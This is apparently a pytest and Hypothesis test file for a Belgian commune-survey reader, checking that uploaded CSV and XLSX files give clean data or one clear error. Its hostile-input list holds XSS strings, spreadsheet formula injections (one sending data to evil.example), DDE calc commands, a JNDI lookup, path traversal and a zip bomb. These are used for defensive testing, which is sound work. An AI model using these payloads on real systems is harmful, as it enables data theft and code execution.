"""Hostile input for the survey reader: every file ends in data plus a report, or one
`SurveyValidationError`; never another exception, never a silently lost row."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from geobaro.errors import SurveyValidationError
from geobaro.survey.read import PROBLEMS, REJECTED_COLUMNS, SurveyResult, load_survey
from geobaro.survey.schema import QUESTIONS, RESPONSE_STATUSES

_FUZZ = settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

_HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "\"><svg onload=alert('x')>",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1",
    " =1",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "../../etc/passwd",
    "C:\\Windows\\win.ini",
    "\u202eevil",
    "\x00",
    "\x1b[31m",
    "é" * 3,
    "🙂",
    "'",
    '"',
    "a\nb",
    ";;;",
]
_KEYS = ["11001", "11001.0", "1001", "62063", "Liège", "LUIK", "Saint-Nicolas", "Pelt", "99999"]
_ANSWERS = ["yes", "no", "partly", "oui", "x", "1", "0", "3", "5", "dedicated_plan", "none"]
_HEADERS = [
    "nis_code",
    "commune",
    "response_status",
    "data_status",
    "Code NIS",
    "Gemeente",
    *QUESTIONS,
    "domain_mobility",
    "notes",
    "",
]

_cell = st.one_of(
    st.sampled_from(_HOSTILE + _KEYS + _ANSWERS + ["", " "]),
    st.text(max_size=40),
)


def check_outcome(source: bytes, gdf, **kwargs) -> SurveyResult | None:
    """Load ``source``; assert it gives one clear error or data whose report adds up."""
    try:
        result = load_survey(source, gdf_communes=gdf, **kwargs)
    except SurveyValidationError as exc:
        message = str(exc)
        assert message.strip()
        assert "Traceback" not in message
        return None
    report = result.report
    assert report.rows_used + report.rows_rejected == report.rows_in
    assert report.rows_used == len(result.data)
    assert list(report.rejected.columns) == list(REJECTED_COLUMNS)
    assert set(report.rejected["problem"]) <= set(PROBLEMS)
    assert result.data["nis_code"].is_unique
    assert result.data["nis_code"].str.fullmatch(r"\d{5}").all()
    # nothing in the report can be re-read as a live spreadsheet formula
    for value in report.rejected["value"]:
        assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value
    _check_no_free_text(result)
    return result


def _check_no_free_text(result: SurveyResult) -> None:
    """Only answer codes reach the data: uploaded free text can never be shown or exported."""
    data = result.data
    assert set(data["response_status"]) <= set(RESPONSE_STATUSES)
    for column in data.columns:
        q = QUESTIONS.get(column)
        if q is None or q.kind in ("multi", "bool"):
            if column not in ("nis_code", "response_status"):
                assert data[column].dtype == "boolean", column
            continue
        allowed = {str(v) for v in q.values} if q.kind == "single" else set(q.values)
        assert set(data[column].dropna()) <= allowed, column


def _csv_bytes(rows: list[list[str]], *, delimiter: str, encoding: str, newline: str) -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return buf.getvalue().encode(encoding, errors="replace")


@st.composite
def survey_tables(draw: st.DrawFn) -> list[list[str]]:
    """A header drawn from real and odd column names, and rows of hostile cells."""
    header = draw(st.lists(st.sampled_from(_HEADERS), min_size=1, max_size=8))
    width = len(header)
    rows = draw(st.lists(st.lists(_cell, min_size=width, max_size=width), max_size=20))
    return [header, *rows]


def _expected_rows_in(rows: list[list[str]]) -> int:
    return sum(any(cell.strip() for cell in row) for row in rows)


# --- random and damaged bytes -------------------------------------------------------------------


@_FUZZ
@given(
    raw=st.binary(max_size=2000),
    filename=st.sampled_from([None, "a.csv", "a.xlsx", "a.txt", "a.xls", "a"]),
)
@example(raw=b"\xef\xbb\xbf", filename="a.csv")
@example(raw=b"\xff\xfe", filename="a.csv")
@example(raw=b"\xff\xfen\x00", filename=None)
@example(raw=b"PK\x03\x04", filename=None)
@example(raw=b"PK\x05\x06" + b"\x00" * 18, filename="a.xlsx")
@example(raw=b"#\n#\n", filename=None)
@example(raw=b"nis_code\n" + b"\n" * 50, filename=None)
@example(raw=b'nis_code,feels_concerned\n"11001,yes\n', filename=None)
def test_random_bytes_give_data_or_one_clear_error(gdf_communes, raw, filename) -> None:
    check_outcome(raw, gdf_communes, filename=filename)


@_FUZZ
@given(
    table=survey_tables(),
    delimiter=st.sampled_from([",", ";", "\t"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1"]),
    newline=st.sampled_from(["\n", "\r\n", "\r"]),
)
def test_csv_rows_are_all_used_or_reported(gdf_communes, table, delimiter, encoding, newline):
    raw = _csv_bytes(table, delimiter=delimiter, encoding=encoding, newline=newline)
    result = check_outcome(raw, gdf_communes, filename="survey.csv")
    if result is None or encoding in ("cp1252", "latin-1") or newline == "\r":
        return  # replaced characters and bare CR inside cells change the row structure
    header, *rows = table
    if header[0].lstrip().startswith("#") or any("\x00" in c for r in table for c in r):
        return
    if any("\r" in c for r in table for c in r):
        return  # csv.writer leaves a lone CR unquoted: readers (and Excel) see a line break
    assert result.report.rows_in == _expected_rows_in(rows)


@_FUZZ
@given(table=survey_tables(), cut=st.floats(0.0, 1.0))
def test_truncated_csv(gdf_communes, table, cut) -> None:
    raw = _csv_bytes(table, delimiter=",", encoding="utf-8", newline="\n")
    check_outcome(raw[: int(len(raw) * cut)], gdf_communes, filename="survey.csv")


def _xlsx_bytes(rows: list[list[object]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


_xlsx_cell = st.one_of(
    _cell.map(lambda s: "".join(ch for ch in s if ch >= " " or ch in "\t\n")),
    st.integers(-(10**20), 10**20),
    st.floats(allow_nan=True, allow_infinity=False),
    st.booleans(),
    st.none(),
)


@_FUZZ
@given(
    header=st.lists(st.sampled_from(_HEADERS), min_size=1, max_size=6),
    body=st.lists(st.lists(_xlsx_cell, min_size=6, max_size=6), max_size=12),
)
def test_xlsx_rows_are_all_used_or_reported(gdf_communes, header, body) -> None:
    rows = [row[: len(header)] for row in body]
    try:
        raw = _xlsx_bytes([header, *rows])
    except (ValueError, TypeError):  # openpyxl refuses some characters itself
        assume(False)
        return
    result = check_outcome(raw, gdf_communes, filename="survey.xlsx")
    if result is None:
        return
    blank = sum(all(c is None or str(c).strip() == "" for c in row) for row in rows)
    assert result.report.rows_in == len(rows) - blank


@pytest.fixture(scope="module")
def xlsx_sample() -> bytes:
    """A small valid workbook: a header and five answered communes."""
    rows = [["nis_code", "feels_concerned", "notes"]]
    rows += [[code, "yes", "<b>x</b>"] for code in ("11001", "11002", "21004", "62063", "92094")]
    return _xlsx_bytes(rows)


@_FUZZ
@given(cut=st.integers(0, 10_000), flips=st.lists(st.tuples(st.integers(0), st.integers(0, 255))))
def test_damaged_xlsx(gdf_communes, xlsx_sample, cut, flips) -> None:
    raw = bytearray(xlsx_sample[: max(4, len(xlsx_sample) - cut)])
    for pos, byte in flips:
        raw[pos % len(raw)] = byte
    check_outcome(bytes(raw), gdf_communes, filename="survey.xlsx")


# --- targeted cases -----------------------------------------------------------------------------


@pytest.mark.parametrize("cell", _HOSTILE)
def test_hostile_text_in_every_column(gdf_communes, cell) -> None:
    header = ["nis_code", "commune", "response_status", "feels_concerned", "domains", "notes"]
    rows = [header]
    for i in range(len(header)):
        row = ["11001", "Aartselaar", "answered", "yes", "mobility", "ok"]
        row[i] = cell
        rows.append(row)
    raw = _csv_bytes(rows, delimiter=",", encoding="utf-8", newline="\n")
    result = check_outcome(raw, gdf_communes, filename="s.csv")
    if cell == "\x00":  # a NUL byte marks a binary file: one clear error, not a table
        assert result is None
        return
    assert result is not None
    assert result.report.rows_in == len(header)


@pytest.mark.parametrize(
    ("cell", "problem"),
    [
        ('=HYPERLINK("http://evil.example","x")', "formula"),
        ("+cmd|' /C calc'!A0", "formula"),
        ("@SUM(A1)", "formula"),
        ("-2+3", "formula"),
        ("<script>alert(1)</script>", "invalid_value"),
    ],
)
def test_formula_as_answer_is_rejected_and_neutralised(gdf_communes, cell, problem) -> None:
    raw = _csv_bytes(
        [["nis_code", "feels_concerned"], ["11001", cell], ["11002", "yes"]],
        delimiter=",",
        encoding="utf-8",
        newline="\n",
    )
    result = check_outcome(raw, gdf_communes)
    assert result is not None
    rejected = result.report.rejected
    assert rejected["problem"].tolist() == [problem]
    value = rejected["value"].iloc[0]
    assert value.lstrip("'") == cell
    assert result.data["nis_code"].tolist() == ["11002"]


def test_formula_as_commune_key_is_rejected(gdf_communes) -> None:
    raw = b"nis_code,feels_concerned\n=11001,yes\n11002,yes\n"
    result = check_outcome(raw, gdf_communes)
    assert result is not None
    assert result.report.rejected["problem"].tolist() == ["formula"]
    assert result.report.rejected["value"].tolist() == ["'=11001"]


def test_zip_bomb_is_refused_before_unpacking(gdf_communes) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        zf.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * 300_000_000 + b"</sst>")
    raw = buf.getvalue()
    assert len(raw) < 1_000_000
    with pytest.raises(SurveyValidationError, match="unpacks to"):
        load_survey(raw, gdf_communes=gdf_communes, filename="bomb.xlsx")


# --- bounds -------------------------------------------------------------------------------------


def _sheet_xlsx(sheet_xml: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A workbook made by openpyxl whose first sheet's XML (and other parts) are replaced."""
    base = _xlsx_bytes([["x"]])
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as zin,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml
            zout.writestr(info.filename, (extra or {}).get(info.filename, data))
        for part, data in (extra or {}).items():
            if part not in zin.namelist():
                zout.writestr(part, data)
    return out.getvalue()


_NS = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _inline_row(number: int, *texts: str) -> bytes:
    cells = b"".join(
        b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>'
        % (chr(65 + i).encode(), number, t.encode())
        for i, t in enumerate(texts)
    )
    return b'<row r="%d">%s</row>' % (number, cells)


def test_millions_of_csv_rows_are_refused_by_the_row_bound(gdf_communes) -> None:
    raw = b"nis_code,feels_concerned\n" + b"11001,yes\n" * 1_000_000
    assert len(raw) <= 10 * 1024 * 1024
    with pytest.raises(SurveyValidationError, match=r"more than 10000 data rows.*GEOBARO_MAX_ROWS"):
        load_survey(raw, gdf_communes=gdf_communes)


def test_millions_of_comment_lines_are_refused(gdf_communes) -> None:
    with pytest.raises(SurveyValidationError, match="no header in its first 10000 lines"):
        load_survey(b"# x\n" * 2_000_000, gdf_communes=gdf_communes)


def test_oversized_file_is_refused_before_parsing(gdf_communes) -> None:
    raw = b"nis_code,feels_concerned\n" + b"11001,yes\n" * 1_100_000
    with pytest.raises(SurveyValidationError, match=r"limit is 10\.0 MB \(max_bytes\)"):
        load_survey(raw, gdf_communes=gdf_communes)
    with pytest.raises(SurveyValidationError, match="max_bytes"):
        load_survey(io.BytesIO(raw), gdf_communes=gdf_communes)


@pytest.mark.timeout(60)
def test_header_with_a_million_empty_columns_is_read_in_linear_time(gdf_communes) -> None:
    # trimming trailing empty header cells one slice at a time was quadratic: a hang
    raw = b"nis_code,feels_concerned" + b"," * 1_000_000 + b"\n11001,yes\n"
    result = check_outcome(raw, gdf_communes)
    assert result is not None
    assert result.data["nis_code"].tolist() == ["11001"]


def test_too_many_columns(gdf_communes) -> None:
    header = ",".join(["nis_code", "feels_concerned", *(f"c{i}" for i in range(600))])
    with pytest.raises(SurveyValidationError, match=r"602 columns; at most 500.*COLUMNS"):
        load_survey(f"{header}\n11001,yes\n".encode(), gdf_communes=gdf_communes)


def test_huge_cell_gives_one_clear_error(gdf_communes) -> None:
    raw = b"nis_code,feels_concerned\n11001," + b"y" * 200_000 + b"\n"
    with pytest.raises(SurveyValidationError, match=r"line 2.*longer than 131072 characters"):
        load_survey(raw, gdf_communes=gdf_communes)


def test_long_cells_are_shortened_in_the_report(gdf_communes) -> None:
    raw = b"commune,feels_concerned\n" + b"<b>" * 20_000 + b",yes\n11001,yes\n"
    result = check_outcome(raw, gdf_communes)
    assert result is not None
    rejected = result.report.rejected
    assert rejected["problem"].tolist() == ["unknown_commune"]
    assert rejected["value"].str.len().max() <= 300
    assert rejected["reason"].str.len().max() <= 300
    assert "[60000 characters]" in rejected["value"].iloc[0]


def test_time_limit_gives_one_clear_error(gdf_communes) -> None:
    raw = b"nis_code,feels_concerned\n11001,yes\n"
    with pytest.raises(SurveyValidationError, match=r"longer than 0 s.*GEOBARO_PARSE_SECONDS"):
        load_survey(raw, gdf_communes=gdf_communes, time_limit=0)
    assert load_survey(raw, gdf_communes=gdf_communes, time_limit=60).report.rows_used == 1


def test_time_limit_is_checked_while_reading_rows(gdf_communes, monkeypatch) -> None:
    from geobaro.survey import limits as _limits

    checks: list[str] = []
    real_check = _limits.Deadline.check

    def counting_check(self, phase: str) -> None:
        checks.append(phase)
        real_check(self, phase)

    monkeypatch.setattr(_limits.Deadline, "check", counting_check)
    rows = b"".join(b"%05d,yes\n" % (11001 + i % 3) for i in range(2000))
    load_survey(b"nis_code,feels_concerned\n" + rows, gdf_communes=gdf_communes)
    assert any(p.startswith("reading row") for p in checks)
    assert any(p.startswith("checking row") for p in checks)
    xlsx = _xlsx_bytes([["nis_code", "feels_concerned"], *(["11001", "yes"] for _ in range(600))])
    checks.clear()
    load_survey(xlsx, gdf_communes=gdf_communes)
    assert "opening the workbook" in checks
    assert any(p.startswith("reading row") for p in checks)


def test_limits_come_from_the_environment(gdf_communes, monkeypatch) -> None:
    raw = b"nis_code,feels_concerned\n11001,yes\n11002,no\n11004,yes\n"
    monkeypatch.setenv("GEOBARO_MAX_ROWS", "2")
    with pytest.raises(SurveyValidationError, match="more than 2 data rows"):
        load_survey(raw, gdf_communes=gdf_communes)
    assert load_survey(raw, gdf_communes=gdf_communes, max_rows=3).report.rows_used == 3
    monkeypatch.setenv("GEOBARO_MAX_UPLOAD_MB", "0.00002")  # about 20 bytes
    with pytest.raises(SurveyValidationError, match="max_bytes"):
        load_survey(raw, gdf_communes=gdf_communes, max_rows=3)
    monkeypatch.setenv("GEOBARO_PARSE_SECONDS", "nonsense")  # ignored, with a log line
    monkeypatch.setenv("GEOBARO_MAX_COLUMNS", "1")
    with pytest.raises(SurveyValidationError, match="GEOBARO_MAX_COLUMNS"):
        load_survey(raw, gdf_communes=gdf_communes, max_rows=3, max_bytes=1000)


def test_upload_limit_follows_streamlit_variable(monkeypatch) -> None:
    from geobaro.survey.limits import MIB, get_limits

    monkeypatch.delenv("GEOBARO_MAX_UPLOAD_MB", raising=False)
    monkeypatch.setenv("STREAMLIT_SERVER_MAX_UPLOAD_SIZE", "3")
    assert get_limits().max_bytes == 3 * MIB
    monkeypatch.setenv("GEOBARO_MAX_UPLOAD_MB", "4")
    assert get_limits().max_bytes == 4 * MIB
    monkeypatch.setenv("GEOBARO_MAX_UPLOAD_MB", "-1")
    assert get_limits().max_bytes == 3 * MIB


def test_streamlit_upload_limit_matches_the_reader() -> None:
    import tomllib

    from geobaro.config import PROJECT_ROOT
    from geobaro.survey.limits import MIB, Limits

    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
    assert config["server"]["maxUploadSize"] * MIB == Limits().max_bytes


def test_xlsx_header_far_down_a_sparse_sheet_is_refused_quickly(gdf_communes) -> None:
    sheet = _NS + b"<sheetData>" + _inline_row(1_000_000, "nis_code", "feels_concerned")
    sheet += _inline_row(1_000_001, "11001", "yes") + b"</sheetData></worksheet>"
    with pytest.raises(SurveyValidationError, match="no header in its first 10000 rows"):
        load_survey(_sheet_xlsx(sheet), gdf_communes=gdf_communes, filename="s.xlsx")


def test_xlsx_wrong_dimension_does_not_pad_a_million_rows(gdf_communes) -> None:
    sheet = _NS + b'<dimension ref="A1:XFD1048576"/><sheetData>'
    sheet += _inline_row(1, "nis_code", "feels_concerned") + _inline_row(2, "11001", "yes")
    sheet += b"</sheetData></worksheet>"
    result = check_outcome(_sheet_xlsx(sheet), gdf_communes, filename="s.xlsx")
    assert result is not None
    assert result.report.rows_in == 1
    assert result.data["nis_code"].tolist() == ["11001"]


def test_xlsx_row_far_down_is_refused_by_the_row_bound(gdf_communes) -> None:
    sheet = _NS + b"<sheetData>" + _inline_row(1, "nis_code", "feels_concerned")
    sheet += _inline_row(1_048_576, "11001", "yes") + b"</sheetData></worksheet>"
    with pytest.raises(SurveyValidationError, match="more than 10000 data rows"):
        load_survey(_sheet_xlsx(sheet), gdf_communes=gdf_communes, filename="s.xlsx")


def test_xlsx_with_too_many_texts_is_refused_before_loading_them(gdf_communes) -> None:
    strings = b"".join(b"<si><t>s%d</t></si>" % i for i in range(200_001))
    sst = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    raw = _sheet_xlsx(
        _NS + b"<sheetData>" + _inline_row(1, "nis_code") + b"</sheetData></worksheet>",
        {"xl/sharedStrings.xml": sst + strings + b"</sst>"},
    )
    with pytest.raises(SurveyValidationError, match="200001 distinct texts"):
        load_survey(raw, gdf_communes=gdf_communes, filename="s.xlsx")


def test_report_exported_as_csv_holds_no_live_formula(gdf_communes) -> None:
    """The rejected rows, as the static site and a download write them, stay inert text."""
    from geobaro.export.files import export_csv

    cells = [c for c in _HOSTILE if c != "\x00"]
    rows = [["nis_code", "feels_concerned"]] + [["11001", c] for c in cells]
    rows += [[c, "yes"] for c in cells]
    raw = _csv_bytes(rows, delimiter=",", encoding="utf-8", newline="\n")
    result = check_outcome(raw, gdf_communes)
    assert result is not None
    exported = export_csv(result.report.rejected).decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(exported, newline="")))
    assert len(table) == len(result.report.rejected) + 1
    for record in table:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_unpacked_size_limit_comes_from_the_environment(gdf_communes, monkeypatch) -> None:
    raw = _xlsx_bytes([["nis_code", "feels_concerned"], ["11001", "yes"]])
    assert check_outcome(raw, gdf_communes, filename="s.xlsx") is not None
    monkeypatch.setenv("GEOBARO_MAX_UNZIP_MB", "0.001")  # about 1 KB
    with pytest.raises(SurveyValidationError, match="GEOBARO_MAX_UNZIP_MB"):
        load_survey(raw, gdf_communes=gdf_communes, filename="s.xlsx")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_hash_column_header_is_a_header_not_a_comment(gdf_communes, suffix) -> None:
    rows = [
        ["# illustrative notes, not a header"],
        ["#", "nis_code", "feels_concerned"],
        ["1", "11001", "yes"],
        ["2", "11002", "no"],
    ]
    if suffix == "csv":
        raw = b"# illustrative notes, not a header\n#,nis_code,feels_concerned\n"
        raw += b"1,11001,yes\n2,11002,no\n"
    else:
        raw = _xlsx_bytes(rows)
    result = check_outcome(raw, gdf_communes, filename=f"s.{suffix}")
    assert result is not None
    assert result.report.rows_in == 2
    assert result.data["nis_code"].tolist() == ["11001", "11002"]
    assert result.is_illustrative


@_FUZZ
@given(
    values=st.lists(
        st.one_of(
            _cell,
            st.integers(-(10**30), 10**30),
            st.floats(),
            st.none(),
            st.booleans(),
            st.binary(max_size=8),
        ),
        max_size=20,
    )
)
def test_match_communes_takes_any_values(gdf_communes, values) -> None:
    from geobaro.survey.read import match_communes

    matched = match_communes(values, gdf_communes=gdf_communes)
    assert len(matched) == len(values)
    codes = matched["nis_code"].dropna()
    assert codes[codes != "nan"].isin(set(gdf_communes["nis_code"])).all()
